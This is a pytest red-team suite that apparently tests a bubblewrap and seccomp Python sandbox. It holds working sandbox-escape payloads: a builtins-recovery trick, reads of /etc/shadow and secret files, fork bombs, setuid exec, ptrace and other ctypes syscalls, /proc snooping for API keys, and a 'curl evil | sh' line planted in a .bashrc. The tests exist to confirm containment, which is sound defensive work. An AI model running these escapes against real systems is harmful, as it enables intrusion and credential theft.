"""ch09 sandbox red team: real attacks, each run with the AST layer on and off — off, the OS layers alone must hold.

Attacks that need more than the AST allows start with ESCAPE (a subclass walk to the real builtins: what any bypass of
layers 1-2 would give). Each attack program records what each attempt did as ``label=ErrorType`` (or
``label=SUCCEEDED``) and the checks also look at the host side (files, listeners, decoy processes). The whole suite runs
once in this process (root on CI) and once from a non-root caller (a subprocess under another uid).
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

import ch09.sandbox_bwrap as sb
from ch09.sandbox import SandboxResult, SandboxUnavailable, run_many, run_program, unavailable_reason
from ch09.sandbox_runner import SYSCALL_NUMBERS, decode_value, parse_netstrings

pytestmark = pytest.mark.timeout(120)
UNAVAILABLE = unavailable_reason()  # e.g. no bubblewrap: only the fail-closed and wire-format tests can run
needs_sandbox = pytest.mark.skipif(UNAVAILABLE is not None, reason=f"sandbox unavailable here: {UNAVAILABLE}")
ROOT = Path(__file__).resolve().parent.parent
API_KEY = "sk-redteam-" + secrets.token_hex(8)

ESCAPE = """\
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == '_wrap_close':
        B = c.__init__.__globals__['sys'].modules['builtins']
imp = B.__import__
os = imp('os')
R = []
def t(label, f, *a):
    try:
        v = f(*a)
        R.append(label + '=SUCCEEDED:' + '_'.join(str(v).split())[:60])
    except B.BaseException as e:
        R.append(label + '=' + B.type(e).__name__)
"""
DONE = "\nanswer = ' '.join(R)\n"


def outcomes(r: SandboxResult, labels: str) -> dict:
    """The attack program ran to its end and tried exactly ``labels``; returns label -> outcome."""
    assert r.ok, r
    got = dict(item.split("=", 1) for item in r.answer.split())
    assert sorted(got) == sorted(labels.split()), got
    return got


def all_blocked(r: SandboxResult, labels: str) -> dict:
    got = outcomes(r, labels)
    assert not [k for k, v in got.items() if v.startswith("SUCCEEDED")], got
    return got


# ------------------------------------------------------------------------------------------------ host-side context
@pytest.fixture(scope="module")
def shared_dir():
    """A folder under /tmp that a non-root caller can reach too (pytest's own tmp folders are 0700 root)."""
    d = Path(tempfile.mkdtemp(prefix="ch09-redteam-", dir="/tmp"))
    os.chmod(d, 0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


@pytest.fixture(scope="module")
def ctx(shared_dir):
    d = shared_dir / "host"
    d.mkdir()
    os.chmod(d, 0o777)  # anyone may write here: only the sandbox can stop it
    secret = d / "secret.txt"
    secret.write_text(API_KEY)
    os.chmod(secret, 0o644)
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    unix_path = str(d / "host.sock")
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(unix_path)
    os.chmod(unix_path, 0o777)
    abstract = socket.socket(socket.AF_UNIX)
    abstract_name = "ch09-redteam-" + secrets.token_hex(4)
    abstract.bind("\0" + abstract_name)
    for s in (tcp, unix, abstract):
        s.listen(8)
    for s in (tcp, udp, unix, abstract):
        s.setblocking(False)
    decoy = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)", "--api-key", API_KEY], env={"API_KEY": API_KEY}
    )
    setuid = [p for p in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount", "/bin/su") if _is_setuid_root(p)]
    c = dict(
        dir=str(d),
        secret=str(secret),
        tcp_port=tcp.getsockname()[1],
        udp_port=udp.getsockname()[1],
        unix_path=unix_path,
        abstract=abstract_name,
        decoy=decoy.pid,
        setuid=setuid[0] if setuid else "/bin/sh",
        listeners=(tcp, udp, unix, abstract),
    )
    yield c
    decoy.kill()
    decoy.wait()
    for s in c["listeners"]:
        s.close()


def _is_setuid_root(path: str) -> bool:
    try:
        st = os.stat(path)
    except OSError:
        return False
    return bool(st.st_mode & stat.S_ISUID) and st.st_uid == 0


def nothing_reached_the_listeners(ctx) -> None:
    tcp, udp, unix, abstract = ctx["listeners"]
    for s in (tcp, unix, abstract):
        with pytest.raises(BlockingIOError):
            s.accept()
    with pytest.raises(BlockingIOError):
        udp.recv(100)


def decoy_alive(ctx) -> None:
    os.kill(ctx["decoy"], 0)
    with open(f"/proc/{ctx['decoy']}/stat") as f:
        assert f.read().split()[2] != "Z"


# ------------------------------------------------------------------------------------------------------ the attacks
def attacks(ctx) -> dict:
    """name -> (source, refused by the AST layer?, run_program limits, check(result)). CALLER_PID is the caller's pid."""
    host_file = ctx["dir"] + "/planted-by-sandbox"
    a = {}
    a["infinite_loop"] = ("while True:\n    pass", False, dict(timeout_s=1.0, cpu_s=5), _timeout)
    a["cpu_bomb"] = ("answer = 10 ** 10 ** 8", False, dict(cpu_s=1, timeout_s=10), _sigxcpu)
    a["sleep_forever"] = (ESCAPE + "imp('time').sleep(60)", True, dict(timeout_s=1.0), _timeout)
    a["memory_bomb"] = ("x = [0] * (10 ** 9)", False, dict(memory_mb=200), _memory)
    a["memory_bomb_bytearray"] = (ESCAPE + "x = B.bytearray(10 ** 10)", True, dict(memory_mb=200), _memory)
    a["fork_bomb"] = (
        ESCAPE
        + "t('fork', os.fork)\nt('spawn', os.posix_spawn, '/bin/true', ['true'], {})\n"
        + "t('subprocess', imp('subprocess').run, ['true'])\n"
        + "t('thread', imp('_thread').start_new_thread, B.print, ())\n"
        + "R.append('system=' + str(os.system('true')))\n"
        + "for i in range(1000):\n    t('loop', os.fork)\n    if R[-1] != 'loop=PermissionError':\n        break\n"
        + "    R.pop()\n"
        + DONE,
        True,
        {},
        lambda r: _assert(all_blocked(r, "fork spawn subprocess thread system")["system"] != "0"),
    )
    a["exec_and_setuid"] = (
        ESCAPE
        + f"t('execv_sh', os.execv, '/bin/sh', ['sh', '-c', 'echo pwned > {host_file}'])\n"
        + f"t('execv_setuid', os.execv, {ctx['setuid']!r}, ['x', '--help'])\n"
        + "t('execve', os.execve, '/usr/bin/id', ['id'], {})\n"
        + "R.append('euid=' + str(os.geteuid()))\n"
        + "st = B.open('/proc/self/status').read()\n"
        + "R.append('nnp=' + st.split('NoNewPrivs:')[1].split()[0])\n"
        + DONE,
        True,
        {},
        lambda r: _exec_blocked(r, host_file),
    )
    a["read_host_files"] = (
        ESCAPE
        + "".join(
            f"t('read{i}', lambda: B.open({p!r}).read())\n"
            for i, p in enumerate(
                ["/etc/passwd", "/etc/shadow", "/root/.bashrc", ctx["secret"], str(ROOT / "README.md"), "/etc/hostname"]
            )
        )
        + "t('host_tmp', os.listdir, '/tmp/..' + "
        + repr(ctx["dir"])
        + ")\n"
        + DONE,
        True,
        {},
        lambda r: _assert(API_KEY not in r.answer and all_blocked(r, "read0 read1 read2 read3 read4 read5 host_tmp")),
    )
    targets = ["/x", "/usr/x", "/etc/x", "/proc/x", "/dev/x", "/dev/shm/x", host_file, sys.base_prefix + "/x"]
    a["write_outside"] = (
        ESCAPE
        + "".join(f"t('w{i}', lambda: B.open({p!r}, 'w').write('pwned'))\n" for i, p in enumerate(targets))
        + "t('private_tmp', lambda: B.open('/tmp/x', 'w').write('fine'))\n"
        + DONE,
        True,
        {},
        lambda r: _write_blocked(r, targets, host_file),
    )
    a["disk_fill"] = (
        ESCAPE
        + "t('one_big_file', lambda: B.open('/tmp/big', 'wb').write(b'x' * 10 ** 7))\n"
        + "def fill():\n    for i in range(10 ** 6):\n"
        + "        with B.open('/tmp/f%d' % i, 'wb') as f:\n            f.write(b'x' * 60000)\n"
        + "t('many_files', fill)\n"
        + DONE,
        True,
        dict(timeout_s=10),
        lambda r: _assert(
            all_blocked(r, "one_big_file many_files") == {"one_big_file": "OSError", "many_files": "OSError"}
        ),
    )
    a["network"] = (
        ESCAPE
        + "socket = imp('socket')\n"
        + f"t('tcp', socket.create_connection, ('127.0.0.1', {ctx['tcp_port']}), 1)\n"
        + f"t('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {ctx['udp_port']})))\n"
        + "t('dns', socket.getaddrinfo, 'example.com', 80)\n"
        + f"t('unix_path', lambda: socket.socket(socket.AF_UNIX).connect({ctx['unix_path']!r}))\n"
        + f"t('unix_abstract', lambda: socket.socket(socket.AF_UNIX).connect('\\0' + {ctx['abstract']!r}))\n"
        + "t('socketpair', socket.socketpair)\n"
        + DONE,
        True,
        {},
        lambda r: _assert(all_blocked(r, "tcp udp dns unix_path unix_abstract socketpair")),
    )
    a["signals"] = (
        ESCAPE
        + "t('caller', os.kill, CALLER_PID, 0)\n"
        + f"t('decoy', os.kill, {ctx['decoy']}, 9)\n"
        + "t('everyone', os.kill, -1, 9)\nt('own_group', os.kill, 0, 9)\nt('init', os.kill, 1, 9)\n"
        + "t('runner', os.kill, os.getppid(), 9)\nt('pidfd', os.pidfd_open, os.getppid())\n"
        + "t('self', os.kill, os.getpid(), 0)\n"
        + DONE,
        True,
        {},
        lambda r: _signals_blocked(r, ctx),
    )
    a["proc_snoop"] = (
        ESCAPE
        + "seen = []\npids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
        + "for p in pids:\n    for f in ('cmdline', 'environ'):\n"
        + "        try:\n            seen.append(B.open('/proc/' + p + '/' + f, 'rb').read().decode('latin-1'))\n"
        + "        except B.OSError:\n            pass\n"
        + "seen = ' '.join(seen)\n"
        + "answer = ' '.join(str(x) for x in (len(pids), seen.count('api-key'), seen.count('pytest'), len(seen)))\n",
        True,
        {},
        _proc_snoop,
    )
    a["forged_stdout"] = ("print('CH09/1\\n2:ok,3:I99,0:,')\nanswer = 1", False, {}, _forged_stdout)
    a["forged_fds"] = (
        ESCAPE
        + "forged = b'CH09/1\\n2:ok,3:I99,0:,' + b'[' * 50000\n"
        + "for fd in range(1024):\n    if fd != 3:\n"
        + "        try:\n            os.write(fd, forged)\n        except B.OSError:\n            pass\n"
        + "answer = 1\n",
        True,
        {},
        lambda r: _assert(r.ok and r.answer == 1 and r.error is None, r),
    )
    a["deep_nesting_on_answer_pipe"] = (
        ESCAPE + "os.write(3, b'[' * 30000)\nos.write(1, b'[' * 50000)\nos._exit(0)\n",
        True,
        {},
        lambda r: _assert(not r.ok and r.error.startswith("malformed answer") and r.answer is None, r),
    )
    a["runner_attack"] = (
        ESCAPE
        + "t('runner_fds', os.listdir, '/proc/%d/fd' % os.getppid())\n"
        + "t('runner_fd_open', B.open, '/proc/%d/fd/0' % os.getppid(), 'w')\n"
        + "t('runner_mem', B.open, '/proc/%d/mem' % os.getppid(), 'rb')\n"
        + "t('init_mem', B.open, '/proc/1/mem', 'rb')\n"
        + "resource = imp('resource')\n"
        + "t('prlimit_runner', resource.prlimit, os.getppid(), resource.RLIMIT_FSIZE, (0, 0))\n"
        + "t('renice_runner', os.setpriority, os.PRIO_PROCESS, os.getppid(), 19)\n"
        + DONE,
        True,
        {},
        lambda r: _assert(all_blocked(r, "runner_fds runner_fd_open runner_mem init_mem prlimit_runner renice_runner")),
    )
    a["ctypes_syscalls"] = (
        ESCAPE
        + "ctypes = imp('ctypes')\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        + "def sys_(name, *args):\n    if getattr_(libc, name)(*args) == -1:\n"
        + "        raise B.OSError(ctypes.get_errno(), name)\n    return 'returned'\n"
        + "getattr_ = B.getattr\n"
        + "t('socket', sys_, 'socket', 2, 1, 0)\nt('unshare', sys_, 'unshare', 0x10000000)\n"
        + "t('mount', sys_, 'mount', b'none', b'/tmp', b'tmpfs', 0, None)\n"
        + "t('ptrace', sys_, 'ptrace', 16, os.getppid(), 0, 0)\nt('setns', sys_, 'setns', 0, 0)\n"
        + "t('chroot', sys_, 'chroot', b'/tmp')\nt('setuid0', sys_, 'setuid', 0)\n"
        + "t('sysv_shm', sys_, 'shmget', 0, 1 << 30, 0o1600)\n"  # memory outside RLIMIT_AS
        + DONE,
        True,
        {},
        lambda r: _assert(all_blocked(r, "socket unshare mount ptrace setns chroot setuid0 sysv_shm")),
    )
    a["ctypes_segfault"] = (ESCAPE + "imp('ctypes').string_at(0)", True, {}, _segfault)
    a["environment"] = (
        ESCAPE + "answer = ' '.join(sorted(os.environ)) + ' | ' + os.getcwd() + ' ' + str(os.listdir('.'))",
        True,
        {},
        lambda r: _assert(r.ok and r.answer == "LC_ALL | /tmp []", r),
    )
    a["bad_answer_type"] = ("answer = [1, 2]", False, {}, lambda r: _bad_answer(r, "unsupported type list"))
    a["bad_answer_subclass"] = (
        ESCAPE + "answer = B.type('I', (B.int,), {})(99)",
        True,
        {},
        lambda r: _bad_answer(r, "unsupported type I"),
    )
    a["huge_int_answer"] = ("answer = 2 ** 300", False, {}, lambda r: _bad_answer(r, "more than 200 bits"))
    a["huge_str_answer"] = ("answer = 'x' * 10001", False, {}, lambda r: _bad_answer(r, "10001 characters (limit"))
    a["huge_raw_output"] = (
        ESCAPE
        + "def flood(fd, byte):\n    while True:\n        os.write(fd, byte * 10 ** 6)\n"
        + "t('write', flood, 1, b'\\xff')\nt('write2', flood, 2, b'y')"
        + DONE,
        True,
        dict(max_output=1000),
        _huge_raw_output,
    )
    return a


def _assert(cond, msg=""):
    assert cond, msg


def _timeout(r):
    assert not r.ok and r.error.startswith("timeout"), r


def _sigxcpu(r):
    assert not r.ok and ("SIGXCPU" in r.error or "timeout" in r.error), r


def _memory(r):
    assert not r.ok and ("memory limit" in r.error or "SIGKILL" in r.error), r


def _segfault(r):
    assert not r.ok and r.error == "killed by SIGSEGV: crashed (segmentation fault)", r


def _bad_answer(r, why):
    assert not r.ok and r.answer is None and why in r.error, r


def _exec_blocked(r, host_file):
    got = outcomes(r, "execv_sh execv_setuid execve euid nnp")
    assert got["execv_sh"] == got["execv_setuid"] == got["execve"] == "PermissionError", got
    assert got["euid"] == "1000" and got["nnp"] == "1", got
    assert not os.path.exists(host_file)


def _write_blocked(r, targets, host_file):
    all_blocked(r, " ".join(f"w{i}" for i in range(len(targets))) + " private_tmp")  # even its own /tmp is read-only
    assert not os.path.exists(host_file) and not os.path.exists(targets[-1])


def _signals_blocked(r, ctx):
    got = outcomes(r, "caller decoy everyone own_group init runner pidfd self")
    assert got.pop("self").startswith("SUCCEEDED"), got  # signalling itself is the one thing allowed
    assert set(got.values()) == {"PermissionError"}, got  # seccomp: signals go to the program's own pid only
    decoy_alive(ctx)


def _proc_snoop(r):
    assert r.ok, r
    n_pids, api_keys, pytests, n_chars = map(int, r.answer.split())
    assert n_pids == 2 and api_keys == pytests == 0 and n_chars > 0, r.answer  # runner + itself; it did read them


def _forged_stdout(r):
    assert r.ok and r.answer == 1 and r.stdout == "CH09/1\n2:ok,3:I99,0:,\n", r


def _huge_raw_output(r):
    got = outcomes(r, "write write2")
    assert got == {"write": "OSError", "write2": "OSError"}, got  # EFBIG: RLIMIT_FSIZE on the output memfds
    assert len(r.stdout) <= 1000 and len(r.stderr) <= 1000 and r.stdout.startswith("\ufffd")


# ------------------------------------------------------------------------------------------ in this process (root)
@pytest.fixture(scope="module")
def attack_table(ctx):
    return attacks(ctx)


NAMES = list(
    attacks(dict.fromkeys(["dir", "secret", "unix_path", "abstract", "setuid", "tcp_port", "udp_port", "decoy"], ""))
)


@needs_sandbox
@pytest.mark.parametrize("check_ast", [True, False], ids=["ast_on", "ast_off"])
@pytest.mark.parametrize("name", NAMES)
def test_attack_is_contained(name, check_ast, attack_table, ctx):
    source, refused, limits, check = attack_table[name]
    r = run_program(source.replace("CALLER_PID", str(os.getpid())), check_ast=check_ast, **limits)
    if check_ast and refused:
        assert not r.ok and r.error.startswith("refused:"), r
    else:
        check(r)
    nothing_reached_the_listeners(ctx)


NET_REACHED = ("tcp", "udp", "unix_path", "unix_abstract")


def test_the_attacks_are_real_without_the_sandbox(attack_table, ctx):
    """Control: under a plain ``exec`` (what PAL's authors did) the same programs do reach the host. Only the harmless
    ones are replayed: reading, writing into the test's own folder, talking to the test's listeners."""
    host_file = ctx["dir"] + "/planted-by-sandbox"
    write = ESCAPE + f"t('w', lambda: B.open({host_file!r}, 'w').write('pwned'))" + DONE
    expect = [
        (attack_table["read_host_files"][0], lambda got: got["read3"] == "SUCCEEDED:" + API_KEY),
        (write, lambda got: got["w"].startswith("SUCCEEDED") and os.path.exists(host_file)),
        (attack_table["network"][0], lambda got: all(got[k].startswith("SUCCEEDED") for k in NET_REACHED)),
    ]
    for source, reached in expect:
        p = subprocess.run(
            [sys.executable, "-c", source + "\nprint(answer)"], capture_output=True, text=True, timeout=30
        )
        got = dict(item.split("=", 1) for item in p.stdout.split())
        assert reached(got), (got, p.stderr[-500:])
    snoop = subprocess.run(
        [sys.executable, "-c", attack_table["proc_snoop"][0] + "\nprint(answer)"],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert int(snoop.stdout.split()[1]) > 0  # the decoy's --api-key is in plain view
    os.remove(host_file)
    tcp, udp, unix, abstract = ctx["listeners"]
    time.sleep(0.1)
    for s in (tcp, unix, abstract):
        s.accept()[0].close()
    udp.recv(100)
    nothing_reached_the_listeners(ctx)


@needs_sandbox
@pytest.mark.parametrize("tmp_bytes", [0, 1 << 20], ids=["read_only_tmp", "writable_tmp"])
def test_nothing_persists_between_runs_and_tmp_is_bounded(tmp_bytes, monkeypatch):
    monkeypatch.setattr(sb, "TMP_BYTES", tmp_bytes)
    plant = ESCAPE + "t('tmp', lambda: B.open('/tmp/planted', 'w').write('x'))\n"
    plant += "t('shm', lambda: B.open('/dev/shm/planted', 'w').write('x'))\n"
    plant += "def fill():\n    for i in range(100):\n        with B.open('/tmp/f%d' % i, 'wb') as f:\n"
    plant += "            f.write(b'x' * 60000)\nt('fill', fill)" + DONE
    got = outcomes(run_program(plant, check_ast=False), "tmp shm fill")
    assert got["shm"] == got["fill"] == "OSError"  # read-only /dev; /tmp read-only or full after 1 MiB
    assert got["tmp"] == ("OSError" if tmp_bytes == 0 else "SUCCEEDED:1")
    look = ESCAPE + "answer = str(os.listdir('/tmp')) + str(os.listdir('/dev/shm'))"
    assert run_program(look, check_ast=False).answer == "[][]"


@needs_sandbox
def test_siblings_cannot_signal_each_other(ctx):
    victim = "i = 0\nwhile i < 3000000:\n    i += 1\nanswer = 'alive'"
    attacker = ESCAPE + (
        "time = imp('time')\nend = time.time() + 1.0\nhits = 0\n"
        "while time.time() < end:\n    for p in [-1] + list(range(1, 64)):\n"
        "        if p != os.getpid():\n            try:\n                os.kill(p, 9)\n                hits += 1\n"
        "            except B.OSError:\n                pass\nanswer = hits\n"
    )
    res = run_many([victim, attacker, victim], workers=3, check_ast=False, timeout_s=10)
    assert [r.answer for r in res] == ["alive", 0, "alive"], res
    decoy_alive(ctx)


@needs_sandbox
@pytest.mark.skipif(os.geteuid() != 0, reason="distinct host uids need a root caller (non-root: own user namespace)")
def test_run_many_gives_each_concurrent_program_its_own_host_uid():
    seen, stop = [], threading.Event()

    def watch():
        while not stop.is_set():
            uids = set()
            for p in os.listdir("/proc"):
                try:
                    uid = os.stat(f"/proc/{p}").st_uid if p.isdigit() else 0
                except OSError:
                    continue
                if uid >= sb.ROOT_UID_BASE:
                    uids.add(uid)
            seen.append(uids)
            time.sleep(0.02)

    w = threading.Thread(target=watch)
    w.start()
    try:
        res = run_many(["i = 0\nwhile i < 5000000:\n    i += 1\nanswer = i"] * 3, workers=3, timeout_s=20, cpu_s=10)
    finally:
        stop.set()
        w.join()
    assert all(r.ok for r in res), res
    assert max(len(u) for u in seen) == 3, seen[-5:]  # three programs at once, three different host uids


# ------------------------------------------------------------------------------------------------ fail closed
def test_refuses_to_run_without_bubblewrap(monkeypatch):
    monkeypatch.setattr(sb, "BWRAP", None)
    with pytest.raises(SandboxUnavailable, match="bubblewrap is not installed"):
        run_program("answer = 1")
    monkeypatch.setattr(sb, "BWRAP", "/nonexistent/bwrap")
    with pytest.raises(SandboxUnavailable):
        run_program("answer = 1")


@needs_sandbox
def test_refuses_to_run_without_user_namespaces():
    """In a user namespace whose max_user_namespaces is 0, bwrap cannot isolate: the caller gets an error, no run."""
    script = (
        f"import sys; sys.path[:0] = [{str(ROOT)!r}]\n"
        "from ch09.sandbox import run_program, SandboxUnavailable\n"
        "try:\n    run_program('answer = 1')\nexcept SandboxUnavailable as e:\n    print('REFUSED', e)\n"
    )
    cmd = ["unshare", "--user", "--map-root-user", "sh", "-c", 'echo 0 > /proc/sys/user/max_user_namespaces && "$@"']
    p = subprocess.run([*cmd, "sh", sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    if "REFUSED" not in p.stdout and ("unshare" in p.stderr or p.returncode != 0):
        pytest.skip(f"cannot create a test user namespace here: {p.stderr.strip()[:200]}")
    assert p.stdout.startswith("REFUSED") and "namespace" in p.stdout, p.stdout + p.stderr


# ---------------------------------------------------------------------------------------------- wire format units
def test_strict_decoders_reject_everything_else():
    for bad in [b"[" * 50000, b"", b"X", b"I", b"I01", b"I-0", b"I1.5", b"I" + b"9" * 62, b"D1234567", b"N1", b"Tx"]:
        with pytest.raises(ValueError):
            decode_value(bad, 100)
    with pytest.raises(ValueError):
        decode_value(b"S" + "é".encode() * 101, 100)
    assert decode_value(b"S" + "😀".encode() * 100, 100) == "😀" * 100
    assert decode_value(b"I-" + str(2**200 - 1).encode(), 10) == -(2**200 - 1)
    assert parse_netstrings(b"2:ok,0:,3:abc,", 3, 10) == [b"ok", b"", b"abc"]
    for bad in [b"2:ok,0:,3:abc", b"2:ok,0:,3:abc,,", b"99999999999:", b"2:ok;0:,3:abc,", b"-1:,0:,0:,"]:
        with pytest.raises(ValueError):
            parse_netstrings(bad, 3, 10)


@pytest.mark.parametrize(
    "arch, header",
    [("x86_64", "/usr/include/x86_64-linux-gnu/asm/unistd_64.h"), ("aarch64", "/usr/include/asm-generic/unistd.h")],
)
def test_seccomp_syscall_numbers_match_kernel_headers(arch, header):
    import re

    if not os.path.exists(header):
        pytest.skip(f"{header} not installed (linux-libc-dev)")
    text = Path(header).read_text()
    nr = {k: int(v) for k, v in re.findall(r"#define __NR_(\w+)\s+(\d+)", text)}
    nr |= {k: nr.get(v, -1) for k, v in re.findall(r"#define __NR_(\w+)\s+__NR3264_(\w+)", text)}
    nr |= {k: int(v) for k, v in re.findall(r"#define __NR3264_(\w+)\s+(\d+)", text) if k not in nr}
    table = SYSCALL_NUMBERS[arch]
    wrong = {k: (v, nr.get(k)) for k, v in table.items() if k in nr and nr[k] != v}
    assert not wrong and len([k for k in table if k in nr]) >= len(table) - 2, wrong


# ------------------------------------------------------------------------------------------------ non-root caller
NONROOT_UID = 2_999_000  # no passwd entry needed: the kernel only knows numbers
CALLER = r"""
import json, os, sys
from concurrent.futures import ThreadPoolExecutor
sys.path[:0] = [sys.argv[1]]
from ch09.sandbox import run_program
jobs = json.loads(sys.stdin.read())
def run(name):
    source, limits = jobs[name]
    return run_program(source.replace("CALLER_PID", str(os.getpid())), check_ast=False, **limits)
with ThreadPoolExecutor(3) as pool:
    res = dict(zip(jobs, pool.map(run, jobs)))
print(json.dumps({n: [r.ok, r.answer, r.error, r.stdout, r.stderr] for n, r in res.items()}))
"""


@pytest.fixture(scope="module")
def nonroot_python(shared_dir):
    if os.geteuid() != 0:
        pytest.skip("the non-root half needs root to switch uid; this run already is the non-root half")
    pkg = shared_dir / "pkg"
    pkg.mkdir(mode=0o755)
    (pkg / "ch09").symlink_to(ROOT / "09_advanced_topics")
    for exe in (os.path.realpath(sys.executable), "/usr/bin/python3"):
        try:
            subprocess.run([exe, "-c", "import json"], user=NONROOT_UID, group=NONROOT_UID, extra_groups=[], check=True)
        except (OSError, subprocess.CalledProcessError):
            continue
        probe = f"import sys; sys.path.insert(0, {str(pkg)!r}); import ch09.sandbox"
        reach = subprocess.run(
            [exe, "-I", "-c", probe], user=NONROOT_UID, group=NONROOT_UID, extra_groups=[], capture_output=True
        )
        if reach.returncode:  # e.g. a clone inside a 0700 directory (mktemp -d): the code is not readable to that uid
            pytest.skip(f"uid {NONROOT_UID} cannot read the repository at {ROOT}; the non-root half needs it readable")
        return exe, str(pkg)
    pytest.skip(f"no Python interpreter that uid {NONROOT_UID} can run")


@needs_sandbox
def test_attacks_from_a_non_root_caller(nonroot_python, ctx, shared_dir):
    """The whole table again (AST off), the caller being an unprivileged process with --api-key in its own argv, plus
    the attacks that hurt a non-root caller most: killing it and writing to its ~/.bashrc."""
    exe, pkg = nonroot_python
    home = shared_dir / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# untouched\n")
    os.chown(home, NONROOT_UID, NONROOT_UID)
    os.chown(home / ".bashrc", NONROOT_UID, NONROOT_UID)
    table = attacks(ctx)
    extra = ESCAPE + "t('kill_caller', os.kill, CALLER_PID, 9)\n"
    extra += f"t('bashrc', lambda: B.open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh'))" + DONE
    table["kill_caller_and_bashrc"] = (extra, True, {}, lambda r: _assert(all_blocked(r, "kill_caller bashrc")))
    jobs = {n: [src, limits] for n, (src, _, limits, _) in table.items()}
    p = subprocess.run(
        [exe, "-I", "-c", CALLER, pkg, "--api-key", API_KEY],
        input=json.dumps(jobs),
        capture_output=True,
        text=True,
        timeout=110,
        user=NONROOT_UID,
        group=NONROOT_UID,
        extra_groups=[],
        env={"HOME": str(home), "API_KEY": API_KEY, "PATH": "/usr/bin:/bin"},
        cwd=str(home),
    )
    if "SandboxUnavailable" in p.stderr:
        pytest.skip("unprivileged user namespaces are not allowed here: " + p.stderr.strip().splitlines()[-1])
    assert p.returncode == 0, p.stderr[-3000:]  # the caller was not killed
    results = json.loads(p.stdout)
    for name, (_, _, _, check) in table.items():
        ok, answer, error, stdout, stderr = results[name]
        check(SandboxResult(ok=ok, answer=answer, error=error, stdout=stdout, stderr=stderr))
    assert (home / ".bashrc").read_text() == "# untouched\n"
    nothing_reached_the_listeners(ctx)
    decoy_alive(ctx)
